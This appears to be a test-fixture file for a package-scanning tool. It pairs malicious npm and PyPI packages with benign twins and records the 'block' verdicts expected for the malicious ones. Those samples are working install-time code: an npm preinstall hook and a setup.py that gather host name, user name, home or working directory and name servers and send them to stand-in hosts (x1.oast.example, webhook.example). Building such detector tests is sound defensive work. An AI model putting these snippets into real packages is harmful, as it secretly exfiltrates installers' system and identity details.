import { npm, type PackageCase, pypi, sdist, tarball, YOUNG } from '../../support/package-case.ts'

/** Reports that say too much, and those that do not. */
export const telemetry: readonly PackageCase[] = [
  {
    id: 'who installs is told to a stranger',
    incident: 'bulk probes on npm, 2024 to 2026: user, host, folders and name servers to a webhook, from a hook',
    project: npm(
      'internal-lib-check',
      tarball(
        'internal-lib-check',
        '3.9.9',
        {
          'index.js': `const os = require('os'); const dns = require('dns'); const https = require('https'); const manifest = require('./package.json');
const data = JSON.stringify({ p: manifest.name, c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username, dns: dns.getServers(), v: manifest.version });
const request = https.request({ hostname: 'x1.oast.example', port: 443, path: '/', method: 'POST', headers: { 'content-length': data.length } });
request.write(data); request.end();
`,
        },
        { main: 'index.js', scripts: { preinstall: 'node index.js' } },
      ),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'reports-home',
      text: /^On install, reads the host name, the user name and the name servers, writes it as JSON and sends it to x1\.oast\.example/,
      steps: ['index.js:2', 'index.js:3'],
    },
    twin: npm(
      'internal-lib-check',
      tarball(
        'internal-lib-check',
        '1.0.0',
        {
          'index.js': `const https = require('https');
function report(event) {
  if (process.env.DO_NOT_TRACK === '1' || process.env.CI) return;
  const data = JSON.stringify({ event, version: require('./package.json').version, node: process.version, platform: process.platform });
  const request = https.request({ hostname: 'telemetry.internal-lib-check.example', path: '/v1', method: 'POST' });
  request.write(data); request.end();
}
module.exports = { report };
`,
        },
        { main: 'index.js', homepage: 'https://internal-lib-check.example' },
      ),
    ),
  },
  {
    id: 'who builds is told to a stranger',
    incident: 'the same in setup.py, with a list of what is installed',
    project: pypi(
      'corp-analytics-core',
      sdist('corp-analytics-core', '2024.12.1', {
        'setup.py': `import getpass, json, os, platform, socket, urllib.request
from setuptools import setup
data = json.dumps({"h": socket.gethostname(), "u": getpass.getuser(), "p": os.getcwd(), "o": platform.platform()}).encode()
try:
    urllib.request.urlopen("https://webhook.example/b", data=data, timeout=3)
except Exception:
    pass
setup(name="corp-analytics-core", version="2024.12.1")
`,
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'reports-home',
      text: /^On install, reads the host name, the user name.* and sends it to webhook\.example/,
      steps: ['setup.py:3', 'setup.py:5'],
    },
    twin: pypi(
      'corp-analytics-core',
      sdist('corp-analytics-core', '2024.12.1', {
        'setup.py': `import platform, sys
from setuptools import setup
if platform.python_implementation() == "PyPy":
    print("PyPy is not tested", file=sys.stderr)
setup(name="corp-analytics-core", version="2024.12.1", packages=["corp_analytics"])
`,
        'corp_analytics/__init__.py': `import json, platform, urllib.request
def send(url, event):
    data = json.dumps({"event": event, "python": platform.python_version()}).encode()
    urllib.request.urlopen(url, data=data, timeout=3)
`,
      }),
    ),
  },
]
